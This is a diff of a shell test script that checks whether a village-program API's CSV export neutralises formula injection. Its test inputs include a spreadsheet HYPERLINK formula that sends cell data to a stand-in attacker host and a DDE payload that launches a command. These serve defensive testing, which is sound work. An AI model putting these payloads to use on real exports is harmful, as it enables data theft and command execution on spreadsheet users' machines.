@@ -40,13 +40,18 @@ ok 0 "the gateway starts on 127.0.0.1:$PORT"
 TAB=$(printf '\t')
 CR=$(printf '\r')
 HYPER='=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
-# one intervention per leading character, a day apart (the list is newest first)
+# one intervention per leading character, a day apart (the list is newest first); a title
+# must hold a letter and no control character (the name rule), so the tab and the
+# carriage return go into the description (uraian), which is free text
 n=0
-for judul in "$HYPER" '+62 812 555' '-5' '@SUM(1+1)*cmd|'"'"' /C calc'"'"'!A0' "${TAB}Tab di depan" "${CR}CR di depan" 'Posyandu = 3 kali'; do
+for judul in "$HYPER" '+62 812 555 Bu Kader' '-5 kg beras' '@SUM(1+1)*cmd|'"'"' /C calc'"'"'!A0' "${TAB}Tab di depan" "${CR}CR di depan" 'Posyandu = 3 kali'; do
 	n=$((n + 1))
-	jq -n -c --arg j "$judul" --arg t "2026-10-0$n" '{tanggal: $t, judul: $j, fungsi_keluarga: "reproduksi"}' > "$TMP/i$n.json"
+	case $judul in
+	"$TAB"* | "$CR"*) jq -n -c --arg j "$judul" --arg t "2026-10-0$n" '{tanggal: $t, judul: "Catatan kader", uraian: $j, fungsi_keluarga: "reproduksi"}' > "$TMP/i$n.json" ;;
+	*) jq -n -c --arg j "$judul" --arg t "2026-10-0$n" '{tanggal: $t, judul: $j, fungsi_keluarga: "reproduksi"}' > "$TMP/i$n.json" ;;
+	esac
 	r=$(api POST /v1/desa/$A/intervensi "$TP" -H 'Content-Type: application/json' --data-binary "@$TMP/i$n.json")
-	is "$(status_of "$r")" 201 "POST intervensi $n (title starting with $(printf '%s' "$judul" | head -c 1 | od -An -c | tr -d ' ')) answers 201"
+	is "$(status_of "$r")" 201 "POST intervensi $n (text starting with $(printf '%s' "$judul" | head -c 1 | od -An -c | tr -d ' ')) answers 201"
 done
 ID1=$(sql "SELECT id FROM kkb.intervensi WHERE kode_desa = '$A' AND tanggal = '2026-10-01'")
 # a description and an Inpres activity too
@@ -60,11 +65,12 @@ curl -s -o "$TMP/opd.csv" -w '%{http_code} %{content_type}' -H "Authorization: B
 	"http://127.0.0.1:$PORT/v1/desa/$A/intervensi.csv" > "$TMP/opd.status"
 is "$(cat "$TMP/opd.status")" "200 text/csv; charset=utf-8" "the agency's GET /v1/desa/$A/intervensi.csv answers 200 text/csv"
 has() { grep -cF -- "$2" "$1" | tr -d '\n'; }
-is "$(has "$TMP/opd.csv" "$ID1,"'"'"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klik"")"')" 1 \
+SEL_HYPER=$ID1,\"\''=HYPERLINK(""http://evil.example/?x=""&A1,""Klik"")"'
+is "$(has "$TMP/opd.csv" "$SEL_HYPER")" 1 \
 	"the HYPERLINK title: \"'=HYPERLINK(...)\" (apostrophe inside the quotes, quotes doubled), its id a bare number before it"
 is "$(has "$TMP/opd.csv" '"=HYPERLINK')" 0 "no cell starts with =HYPERLINK"
-is "$(has "$TMP/opd.csv" "\"'+62 812 555\"")" 1 "+62 812 555: \"'+62 812 555\""
-is "$(has "$TMP/opd.csv" "\"'-5\"")" 1 "-5 stored as text: \"'-5\" (text, so neutralised)"
+is "$(has "$TMP/opd.csv" "\"'+62 812 555 Bu Kader\"")" 1 "+62 812 555 Bu Kader: \"'+62 812 555 Bu Kader\""
+is "$(has "$TMP/opd.csv" "\"'-5 kg beras\"")" 1 "-5 kg beras: \"'-5 kg beras\" (text, so neutralised)"
 is "$(has "$TMP/opd.csv" "\"'@SUM(1+1)*cmd|' /C calc'!A0\"")" 1 "@SUM(...): \"'@SUM(...)\""
 is "$(has "$TMP/opd.csv" "\"'${TAB}Tab di depan\"")" 1 "a leading tab: quoted, after an apostrophe"
 is "$(has "$TMP/opd.csv" "\"'${CR}CR di depan\"")" 1 "a leading carriage return: quoted, after an apostrophe"
@@ -79,8 +85,8 @@ is "$(awk 'BEGIN { RS = "\r\n" } NR == 1 { print }' "$TMP/opd.csv")" \
 
 # the same list as JSON: the raw text, for consumers that want it
 r=$(api GET "/v1/desa/$A/intervensi" "$TO")
-is "$(jqb "$r" '[.data[] | .judul] | sort | .[0:3]')" "$(jq -n -c --arg h "$HYPER" --arg c "${CR}CR di depan" --arg t "${TAB}Tab di depan" '[$t, $c, "+62 812 555"] | sort')" \
-	"the JSON answer keeps the raw titles (no apostrophe)"
+is "$(jqb "$r" '[.data[] | .uraian | select(. != null)] | sort | .[0:2]')" "$(jq -n -c --arg c "${CR}CR di depan" --arg t "${TAB}Tab di depan" '[$t, $c] | sort')" \
+	"the JSON answer keeps the raw text (no apostrophe)"
 is "$(jqb "$r" '[.data[] | select(.tanggal == "2026-10-01") | .judul][0]')" "$(jq -n -c --arg h "$HYPER" '$h')" \
 	"the JSON answer keeps =HYPERLINK(...) as sent"
 
